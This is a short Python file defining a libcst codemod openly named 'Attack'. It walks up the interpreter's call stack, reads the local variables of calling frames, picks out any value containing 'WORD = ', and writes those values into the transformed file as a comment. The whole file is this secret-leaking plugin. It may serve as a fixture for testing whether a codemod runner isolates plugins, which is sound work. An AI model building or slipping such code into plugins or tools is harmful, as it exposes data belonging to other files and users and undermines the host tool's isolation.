"""Look through the variables of whoever called, up to the first function of the process, for other files."""

import sys

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


def variables():
    frame = sys._getframe()
    while frame.f_back is not None:
        frame = frame.f_back
        if "transformation" not in frame.f_code.co_filename:
            yield from frame.f_locals.values()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Write what callers know."

    def transform_module_impl(self, tree):
        loot = [repr(value) for value in variables() if "WORD = " in repr(value)]
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
